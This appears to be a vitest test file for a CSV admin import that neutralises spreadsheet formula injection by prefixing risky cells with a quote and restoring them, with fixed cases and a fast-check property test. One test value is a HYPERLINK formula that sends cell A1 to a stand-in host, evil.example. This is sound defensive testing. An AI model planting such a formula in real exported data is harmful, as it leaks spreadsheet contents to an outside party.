import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutralise, restore } from '../../../src/admin/import/csv-cells.js';

const FORMULA_START = /^[=+\-@\t\r]/;

describe('CSV cells against formula injection', () => {
  it('puts a quote before text a spreadsheet would run, and the import takes exactly that quote off', () => {
    const cases: [value: string, cell: string][] = [
      ['=HYPERLINK("http://evil.example/?x="&A1,"x")', '\'=HYPERLINK("http://evil.example/?x="&A1,"x")'],
      ['@SUM(1+1)', "'@SUM(1+1)"],
      ['-1+1 rue', "'-1+1 rue"],
      ['+33 4 72 00 00 00', "'+33 4 72 00 00 00"],
      ['\tname', "'\tname"],
      ['\rname', "'\rname"],
      // A value that really starts with quotes before a formula character keeps them all.
      ["'=déjà cité", "''=déjà cité"],
      ["''-", "'''-"],
      // Nothing to do: a quote before anything else, and ordinary text.
      ["'tis", "'tis"],
      ['Centre Lyon', 'Centre Lyon'],
      ['', ''],
    ];
    for (const [value, cell] of cases) {
      expect(neutralise(value), JSON.stringify(value)).toBe(cell);
      expect(restore(cell), JSON.stringify(cell)).toBe(value);
    }
  });

  it('reads back any text unchanged, and never writes a cell a spreadsheet would run', () => {
    const text = fc.string({
      unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', ' ', '1'),
      maxLength: 8,
    });
    fc.assert(
      fc.property(fc.oneof(text, fc.string()), (value) => {
        const cell = neutralise(value);
        expect(restore(cell)).toBe(value);
        expect(cell).not.toMatch(FORMULA_START);
      }),
      { numRuns: 2000 },
    );
  });
});
